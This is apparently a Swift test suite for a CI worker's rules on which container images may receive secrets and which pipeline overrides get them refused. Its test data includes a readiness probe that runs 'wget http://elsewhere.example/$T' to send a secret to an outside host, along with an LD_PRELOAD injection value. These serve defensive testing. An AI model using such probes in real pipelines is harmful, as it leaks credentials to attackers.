import Contracts
import PipelineLanguage
import Secrets
import TestSupport
import Testing

@testable import Worker

/// The images that may receive a secret.
@Suite struct SecretImagesTests {
    @Test(
        arguments: [
            ("plugins/docker", "plugins/docker"), ("plugins/docker", "plugins/docker:20"),
            ("plugins/docker", "docker.io/plugins/docker:20@sha256:5f16"),
            ("docker.io/plugins/docker", "plugins/docker"),
            ("alpine", "docker.io/library/alpine:3"), ("harbor.example:5000/ci/*", "harbor.example:5000/ci/push:1"),
            ("plugins/docker:20", "plugins/docker:20"),
        ])
    func anImageOfThePattern(pattern: String, image: String) {
        #expect(SecretImages([pattern]).refusal(of: Step(name: "s", image: image)) == nil)
    }

    @Test(
        arguments: [
            ("plugins/docker", "evil/plugins/docker"), ("plugins/docker", "plugins/docker-x"),
            ("plugins/docker", "plugins/dockerx:1"), ("plugins/docker", "registry.example/plugins/docker"),
            ("plugins/docker", "localhost:5000/plugins/docker"), ("plugins/docker:20", "plugins/docker:21"),
            ("ci/*", "ci/a/b"), ("plugins/docker", "plugins:x/docker"),
        ])
    func anotherImage(pattern: String, image: String) {
        #expect(
            SecretImages([pattern]).refusal(of: Step(name: "s", image: image))?.hasPrefix("the step runs \(image);")
                == true)
    }

    @Test func axesOfAMatrixAreNoVariablesOfAStepThatReceivesOne() throws {
        let steps = [
            Step(name: "trusted", image: "plugins/docker", settings: ["token": .secret("t")]),
            Step(name: "other", image: "plugins/docker"),
        ]
        let stage = Stage(name: "main", matrix: ["LD_PRELOAD": "./x.so"], steps: steps)
        var grant = JobGrant(
            job: JobID(rawValue: "j"), run: RunID(rawValue: "r"), attempt: 1, leaseSeconds: 1, timeoutSeconds: 1,
            repository: RepositoryPath(rawValue: "shop/web"),
            commit: Commit(
                sha: String(repeating: "a", count: 40), message: "m", authorName: "Ada",
                authorEmail: "ada@example.org", committedAt: .now), ref: "refs/heads/main",
            stage: try JSONValue(encoding: stage), steps: steps.map(\.name))
        let keys = try KeyRing("k1:" + String(repeating: "A", count: 43) + "=")
        let binding = SealBinding.Grant(grant, for: .builder(pool: "default"))
        grant.imageSecrets = [
            "t": ImageSecret(sealed: try keys.seal("hunter22", for: binding.secret("t")), images: ["plugins/*"])
        ]
        grant.environment = ["LD_PRELOAD": "./x.so", "DRONE_BRANCH": "main"]
        let job = try GrantedJob(grant, keys: keys, for: .builder(pool: "default"))
        for step in steps {
            let environment = try StepRun(job: job, step: step, outputs: [:], log: MemoryLog())
                .environment(output: "/out")
            #expect(environment["DRONE_BRANCH"] == "main")
            #expect(environment["LD_PRELOAD"] == (step.name == "trusted" ? nil : "./x.so"))
            #expect(environment["PLUGIN_TOKEN"] == (step.name == "trusted" ? "hunter22" : nil))
        }
    }

    @Test func aWorkspaceInThePlaceOfTheImagesOwnFilesIsRefused() throws {
        let images = SecretImages(["plugins/docker"])
        let step = Step(name: "s", image: "plugins/docker")
        for base in ["/etc", "/bin", "/opt/plugin", "/drone/..", "/drone/bin"] {
            let workspace = Workspace(base: base, path: "src")
            #expect(images.refusal(of: step, workspace: workspace)?.contains("with “workspace” of") == true, "\(base)")
        }
        #expect(images.refusal(of: step, workspace: Workspace(path: "/etc")) != nil)
        #expect(images.refusal(of: step, workspace: Workspace(path: "src/shop")) == nil)
        var grant = JobGrant(
            job: JobID(rawValue: "j"), run: RunID(rawValue: "r"), attempt: 1, leaseSeconds: 1, timeoutSeconds: 1,
            repository: RepositoryPath(rawValue: "shop/web"),
            commit: Commit(
                sha: String(repeating: "a", count: 40), message: "m", authorName: "Ada",
                authorEmail: "ada@example.org", committedAt: .now), ref: "refs/heads/main",
            stage: try JSONValue(encoding: Stage(name: "m", workspace: Workspace(base: "/opt/plugin"), steps: [step])),
            steps: ["s"])
        let keys = try KeyRing("k1:" + String(repeating: "A", count: 43) + "=")
        let binding = SealBinding.Grant(grant, for: .builder(pool: "default"))
        grant.imageSecrets = [
            "t": ImageSecret(sealed: try keys.seal("hunter22", for: binding.secret("t")), images: ["plugins/*"])
        ]
        let job = try GrantedJob(grant, keys: keys, for: .builder(pool: "default"))
        #expect(throws: JobFailure.self) { try job.resolve(.secret("t"), for: step) }
    }

    @Test func anImageThatThePipelineHasDoSomethingElse() {
        let images = SecretImages(["plugins/docker"])
        var steps = Array(repeating: Step(name: "s", image: "plugins/docker"), count: 12)
        steps[0].commands = ["env"]
        steps[1].command = ["env"]
        steps[2].entrypoint = ["env"]
        steps[3].mounts = [Mount(name: "tools", path: "/bin")]
        steps[4].ready = Probe(command: ["sh", "-c", "wget http://elsewhere.example/$T"])
        steps[5].environment = ["LD_PRELOAD": "./x.so", "T": .secret("t")]
        steps[6].dns = ["192.0.2.1"]
        steps[7].extraHosts = ["registry.example:192.0.2.1"]
        steps[8].networkMode = "host"
        steps[9].user = "1000"
        steps[10].workingDirectory = "x"
        steps[11].privileged = true
        let words = [
            "commands", "command", "entrypoint", "volumes", "ready", "environment", "dns", "extra_hosts",
            "network_mode", "user", "working_dir", "privileged",
        ]
        for (step, word) in zip(steps, words) {
            #expect(images.refusal(of: step)?.contains("with “\(word)” of the pipeline") == true)
        }
        let plain = Step(
            name: "s", image: "plugins/docker", environment: ["T": .secret("t")])
        #expect(images.refusal(of: plain) == nil)
        #expect(images.refusal(of: Step(name: "s", commands: ["env"])) == "the step runs no image")
    }
}
